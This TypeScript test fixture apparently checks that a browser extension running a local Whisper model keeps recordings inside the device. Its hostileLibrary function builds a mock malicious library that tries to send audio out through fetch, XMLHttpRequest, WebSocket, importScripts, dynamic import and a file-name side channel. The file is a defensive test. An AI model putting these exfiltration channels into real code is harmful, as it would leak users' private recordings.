/**
 * A stand-in for transformers.js and a Whisper model: it reads the file of its model as the library does, and detects
 * whether there is a sound.
 */

import type { Page } from "playwright-core";

const LIBRARY = `
  export const env = { backends: { onnx: { wasm: {} } } };
  export async function pipeline(task, model) {
    if (task !== "automatic-speech-recognition") throw new Error("unknown task " + task);
    if (env.allowRemoteModels !== false) throw new Error("a model may come from elsewhere");
    const answer = await fetch(env.localModelPath + model + "/config.json");
    const { word } = await answer.json();
    let count = 0;
    return async (samples, { language }) => {
      const isLoud = samples instanceof Float32Array && samples.some((sample) => sample > 0.1);
      return { text: isLoud ? " [BLANK_AUDIO] " + word + " " + ++count + " " + language : "silence" };
    };
  }
`;

/** The files that a person puts into the folder of the extension. */
export const WHISPER: Readonly<Record<string, string>> = {
  "whisper/transformers.min.js": LIBRARY,
  "whisper/model/config.json": JSON.stringify({ word: "whispered" }),
};

/** The smallest module of WebAssembly, and a runtime that compiles it like the library's runtime. */
const WASM = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);
const RUNTIME = `
  export default async (address) => {
    const { instance } = await WebAssembly.instantiateStreaming(fetch(address));
    return instance;
  };
`;

/**
 * The same library for a server: it has no origin of its own, loads its runtime from the given addresses, and allows a
 * missing model file.
 */
const SERVER_LIBRARY = `
  export const env = { backends: { onnx: { wasm: {} } } };
  export async function pipeline(task, model) {
    const { mjs, wasm } = env.backends.onnx.wasm.wasmPaths;
    const { default: start } = await import(mjs);
    await start(wasm);
    const config = await fetch(env.localModelPath + model + "/config.json");
    if (!config.ok) throw new Error("the model has no config.json");
    const optional = await fetch(env.localModelPath + model + "/optional.json");
    if (optional.status !== 404) throw new Error("nobody has this file");
    const { word } = await config.json();
    let count = 0;
    return async (samples, { language }) => {
      const isLoud = samples instanceof Float32Array && samples.some((sample) => sample > 0.1);
      return { text: isLoud ? word + " " + ++count + " " + language : "" };
    };
  }
`;

export const SERVER_WHISPER: Readonly<Record<string, string | Uint8Array>> = {
  "transformers.min.js": SERVER_LIBRARY,
  "ort-wasm-simd-threaded.asyncify.mjs": RUNTIME,
  "ort-wasm-simd-threaded.asyncify.wasm": WASM,
  "model/config.json": JSON.stringify({ word: "whispered" }),
};

/** The offscreen document reports its requests, which a test could not see otherwise. */
export const TELL_REQUESTS = `
  const plain = globalThis.fetch;
  const told = new BroadcastChannel("requests");
  globalThis.fetch = (input, init) => {
    told.postMessage((init?.method ?? "GET") + " " + (input.url ?? input));
    return plain(input, init);
  };
`;

/** Collects the requests that an offscreen document reports from now on. */
export async function requestsTo(panel: Page): Promise<() => Promise<readonly string[]>> {
  await panel.evaluate(`
    globalThis.requests = [];
    new BroadcastChannel("requests").onmessage = ({ data }) => requests.push(data);
  `);
  return async () => (await panel.evaluate("requests")) as readonly string[];
}

/** A library that tries every way to send a recording out of a worker, and reports the results. */
export function hostileLibrary(url: string): string {
  return `
    export const env = { backends: { onnx: { wasm: {} } } };
    const plain = Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch ?? globalThis.fetch;
    const outcome = async (name, way) => {
      try {
        const late = new Promise((resolve) => setTimeout(() => resolve("refused"), 2000));
        return name + " " + (await Promise.race([late, way().then(() => "open")]));
      } catch {
        return name + " refused";
      }
    };
    const ways = {
      fetch: () => fetch(${JSON.stringify(url)} + "/fetch"),
      "plain fetch": () => plain.call(globalThis, ${JSON.stringify(url)} + "/plain"),
      request: () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = reject;
        request.open("POST", ${JSON.stringify(url)} + "/request");
        request.send("voice");
      }),
      socket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket(${JSON.stringify(url)}.replace("http", "ws"));
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
      script: async () => importScripts(${JSON.stringify(url)} + "/script"),
      module: () => import(${JSON.stringify(url)} + "/module"),
      // The name of a file would tell the server what was said.
      file: () => fetch(env.localModelPath + "secret.json"),
    };
    export const pipeline = async () => async (samples) => {
      if (!samples.some((sample) => sample > 0.1)) return { text: "" };
      const outcomes = [];
      for (const [name, way] of Object.entries(ways)) outcomes.push(await outcome(name, way));
      return { text: outcomes.join(", ") };
    };
  `;
}
